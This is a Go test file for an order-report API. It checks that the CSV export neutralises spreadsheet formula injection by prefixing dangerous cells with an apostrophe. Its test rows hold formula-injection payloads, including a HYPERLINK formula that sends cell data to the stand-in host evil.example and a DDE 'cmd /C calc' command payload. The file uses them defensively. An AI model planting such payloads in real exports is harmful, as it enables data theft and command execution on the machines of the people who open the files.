package api_test

import (
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"

	"github.com/attrib-engine/attrib/readmodel/readmodeltest"
	"github.com/attrib-engine/attrib/reports"
)

// formulaRow is an order whose every text that comes from a brand, a shop
// or a creator reads as a spreadsheet formula.
type formulaRow struct {
	orderID, brandID, brand, offerID, offer, code, currency, country string
	amount, earnings                                                 string
}

var formulaRows = []formulaRow{
	{orderID: "=1+1", brandID: "@brand", brand: `=HYPERLINK("http://evil.example/?d="&A2,"Open")`, offerID: "+offer",
		offer: `=HYPERLINK("http://evil.example/?d="&A2,"Open")`, code: "-2+3", currency: "@RUB", country: "\t=1", amount: "-12.5", earnings: "-1.25"},
	{orderID: "-A-1001", brandID: "\rbrand", brand: "+cmd|' /C calc'!A0", offerID: "-1+1", offer: "@SUM(1+1)*cmd|' /C calc'!A0",
		code: "+ANNA10", currency: "=USD", country: "-R", amount: "1234.5", earnings: "+7"},
}

// TestOrdersCSVIsSafeInSpreadsheets: no cell of the creator's or the
// analyst's export starts a formula, and amounts stay numbers.
func TestOrdersCSVIsSafeInSpreadsheets(t *testing.T) {
	conn, db := readmodeltest.Migrated(t)
	ctx := context.Background()
	b, err := conn.PrepareBatch(ctx, "INSERT INTO "+db+".orders (creator_id, placed_at, brand_id, order_id, offer_id, offer_name, promo_code, status, amount, currency, country, earnings, earnings_currency, updated_at, version)")
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range formulaRows {
		placed := rt0.Add(time.Duration(i) * time.Hour)
		if err := b.Append("c1", placed, r.brandID, r.orderID, r.offerID, r.offer, r.code, reports.StatusPending,
			decimal.RequireFromString(r.amount), r.currency, r.country, decimal.RequireFromString(r.earnings), r.currency, placed, uint64(1)); err != nil {
			t.Fatal(err)
		}
		insertBrand(t, conn, db, r.brandID, r.brand)
	}
	if err := b.Send(); err != nil {
		t.Fatal(err)
	}
	h := reportsMux(t, reports.New(conn, db))
	for _, token := range []string{"anna", "analyst"} {
		t.Run(token, func(t *testing.T) {
			res := call(t, h, token, "/v1/reports/orders.csv?sort=date_asc")
			body, _ := io.ReadAll(res.Body)
			if res.StatusCode != http.StatusOK {
				t.Fatalf("%d %s", res.StatusCode, body)
			}
			recs, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
			if err != nil || len(recs) != 1+len(formulaRows) {
				t.Fatalf("csv (%v): %q", err, body)
			}
			for i, r := range formulaRows {
				got := recs[1+i]
				want := map[string]string{
					"order_id": "'" + r.orderID, "brand_id": "'" + r.brandID, "brand": "'" + r.brand, "offer_id": "'" + r.offerID,
					"offer": "'" + r.offer, "promo_code": "'" + r.code, "currency": "'" + r.currency, "country": "'" + r.country,
					"earnings_currency": "'" + r.currency, "status": reports.StatusPending,
					"placed_at": rt0.Add(time.Duration(i) * time.Hour).Format(time.RFC3339),
				}
				for col, name := range recs[0] {
					if w, ok := want[name]; ok && got[col] != w {
						t.Errorf("row %d %s = %q, want %q", i, name, got[col], w)
					}
					if name == "amount" || name == "earnings" {
						d, err := decimal.NewFromString(got[col])
						v := r.amount
						if name == "earnings" {
							v = r.earnings
						}
						if err != nil || !d.Equal(decimal.RequireFromString(v)) {
							t.Errorf("row %d %s = %q, want the number %s", i, name, got[col], v)
						}
					}
					if c := got[col]; c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						if _, err := decimal.NewFromString(c); err != nil {
							t.Errorf("row %d %s = %q starts a formula", i, name, c)
						}
					}
				}
			}
		})
	}
}
